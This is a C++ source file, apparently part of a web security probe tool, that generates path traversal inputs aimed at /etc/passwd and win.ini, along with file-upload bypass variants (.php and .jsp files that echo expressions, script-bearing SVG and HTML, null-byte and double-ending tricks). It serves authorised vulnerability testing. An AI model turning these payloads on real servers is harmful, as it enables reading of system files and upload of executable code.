// Names of files that lead out of a directory, and files that a list of allowed types has to refuse.
#include "base/text.h"
#include "probes/web_input/attacks.h"

namespace lintel::probes::web_input {
namespace {

std::string ending_of(const std::string& name) {
  const std::size_t dot = name.rfind('.');
  return dot == std::string::npos ? "" : name.substr(dot);
}

std::string repeated(const char* text, int times) {
  std::string out;
  while (times-- > 0) out += text;
  return out;
}

bool sends_file(const flow::Call& call) { return member(call.step.request, "file").is_object(); }

}  // namespace

std::vector<Attack> traversals(const flow::Call& call) {
  constexpr int kUp = 12;
  // Query, form and path encode once more on the way: `%2e` here is the double encoding on the wire.
  const std::pair<const char*, std::string> kForms[] = {
      {"dot_dot", repeated("../", kUp) + "etc/passwd"},
      {"encoded", repeated("%2e%2e%2f", kUp) + "etc%2fpasswd"},
      {"double_encoded", repeated("%252e%252e%252f", kUp) + "etc%252fpasswd"},
      {"absolute", "/etc/passwd"},
      {"file_url", "file:///etc/passwd"},
      {"backslash", repeated("..\\", kUp) + "etc\\passwd"},
      {"stripped_once", repeated("....//", kUp) + "etc/passwd"},
      {"overlong", repeated("..\xc0\xaf", kUp) + "etc\xc0\xafpasswd"},
      {"windows", repeated("..\\", kUp) + "windows\\win.ini"},
      {"windows_absolute", "C:\\windows\\win.ini"},
  };
  std::vector<Attack> attacks;
  for (const auto& [input, good] : call.inputs) {
    const Place place = place_of(call.step.request, input);
    if (good.kind != "file" || call.writes || place == Place::none || place == Place::header) continue;
    const auto add = [&](const char* name, const std::string& value) {
      attacks.push_back({.name = name, .input = input, .call = call, .values = {{input, written(place, value)}}, .sign = Sign::file});
    };
    for (const auto& [name, value] : kForms) add(name, value);
    add("null_byte", repeated("../", kUp) + "etc/passwd" + std::string(1, '\0') + ending_of(good.value));
    add("behind_good", good.value + "/" + repeated("../", kUp) + "etc/passwd");
  }
  if (!sends_file(call)) return attacks;
  const std::string ending = ending_of(text_or(member(call.step.request, "file"), "name", "file.txt"));
  for (const auto& [name, up] : {std::pair{"upload_dot_dot", "../"}, {"upload_backslash", "..\\"}, {"upload_encoded", "%2e%2e%2f"}, {"upload_absolute", "/tmp/"}}) {
    Attack attack{.name = name, .call = call, .sign = Sign::contained, .file = fresh_word() + ending};
    attack.call.step.request["file"]["name"] = up + attack.file;
    attacks.push_back(std::move(attack));
  }
  return attacks;
}

std::vector<Attack> uploads(const flow::Call& call) {
  if (!sends_file(call)) return {};
  const Json& good = member(call.step.request, "file");
  const std::string ending = ending_of(text_or(good, "name", "file.txt")), type = text_or(good, "type", "application/octet-stream");
  struct Form {
    const char* name;
    std::string ending, type;
  };
  const std::string null(1, '\0');
  const Form kForms[] = {
      {"php", ".php", "application/x-httpd-php"}, {"jsp", ".jsp", "text/plain"},        {"html", ".html", "text/html"},
      {"svg", ".svg", "image/svg+xml"},           {"shell", ".sh", "application/x-sh"}, {"program", ".exe", "application/octet-stream"},
      {"wrong_type", ".php", type},               {"other_case", ".pHp", type},         {"double_ending", ending + ".php", type},
      {"inner_ending", ".php" + ending, type},    {"null_byte", ".php" + null + ending, type}, {"null_encoded", ".php%00" + ending, type},
      {"dot_behind", ".php.", type},              {"semicolon", ".php;" + ending, type},
  };
  std::vector<Attack> attacks;
  for (const Form& form : kForms) {
    if (form.ending == ending) continue;  // what the good call sends is allowed
    const Product product = fresh_product();
    const std::string word = fresh_word();
    Attack attack{.name = form.name, .call = call, .sign = Sign::stored, .mark = word, .file = fresh_word() + form.ending};
    // The good content first, for servers that look at how a file begins.
    std::string content = text_or(good, "content") + "\n# " + word + "\n";
    if (form.ending == ".html") content = "<html><script>/* " + word + " */</script></html>";
    if (form.ending == ".svg") content = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>/* " + word + " */</script></svg>";
    if (form.ending == ".jsp") content += "<%= " + product.expression + " %>", attack.result = product.value;
    if (to_lower(form.ending).find(".php") != std::string::npos) content += "<?php echo(" + product.expression + ");", attack.result = product.value;
    Json& file = attack.call.step.request["file"];
    file["name"] = attack.file;
    file["type"] = form.type;
    file["content"] = content;
    attacks.push_back(std::move(attack));
  }
  return attacks;
}

}  // namespace lintel::probes::web_input
